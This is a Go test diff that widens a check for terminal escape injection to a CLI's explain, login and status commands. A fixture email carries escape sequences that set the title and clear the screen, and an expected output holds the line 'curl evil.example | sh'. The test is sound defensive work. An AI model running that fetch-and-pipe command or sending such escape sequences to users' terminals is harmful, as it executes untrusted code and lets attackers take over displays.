@@ -227,7 +227,7 @@ func TestAlso_VerboseLogsWithoutSecrets(t *testing.T) {
 }
 
 // TestFinding4_ClaimsPrintedWithoutTerminalControls is issue 15.4 for
-// explain: a claim value the IdP chose reaches the terminal without
+// explain, login and status: a claim value the IdP chose reaches the terminal without
 // escape sequences.
 func TestFinding4_ClaimsPrintedWithoutTerminalControls(t *testing.T) {
 	e := newTestEnv(t, sandboxOptions())
@@ -244,9 +244,32 @@ func TestFinding4_ClaimsPrintedWithoutTerminalControls(t *testing.T) {
 	if code != 0 || !strings.Contains(out, "Run: curl evil.example | sh") {
 		t.Fatalf("explain: exit %d\n%s%s", code, out, stderr)
 	}
-	for i, r := range out + stderr {
+	noTerminalControls(t, "explain", out+stderr)
+
+	// login and status show the claims of a login.
+	eve := sandbox.User{ID: "eve", Password: "eve-password", Email: "\x1b]0;pwned\x07eve@example.com\x1b[2J\u009b", Name: "Eve", Groups: []string{"data-eng"}}
+	e = newTestEnv(t, sandbox.Options{Users: []sandbox.User{eve}})
+	e.onSleep = e.approveAs("eve")
+	_, stderr, code = e.run("login")
+	e.onSleep = nil
+	if code != 0 {
+		t.Fatalf("login: exit %d\n%s", code, stderr)
+	}
+	noTerminalControls(t, "login", stderr)
+	out, stderr, code = e.run("status")
+	if code != 0 || !strings.Contains(out, "]0;pwnedeve@example.com[2J") {
+		t.Fatalf("status: exit %d\n%s%s", code, out, stderr)
+	}
+	noTerminalControls(t, "status", out+stderr)
+}
+
+// noTerminalControls fails when s holds a C0 control other than a newline,
+// DEL or a C1 control.
+func noTerminalControls(t *testing.T, what, s string) {
+	t.Helper()
+	for i, r := range s {
 		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) {
-			t.Fatalf("explain output holds control %U at %d:\n%q", r, i, out+stderr)
+			t.Fatalf("%s output holds control %U at %d:\n%q", what, r, i, s)
 		}
 	}
 }
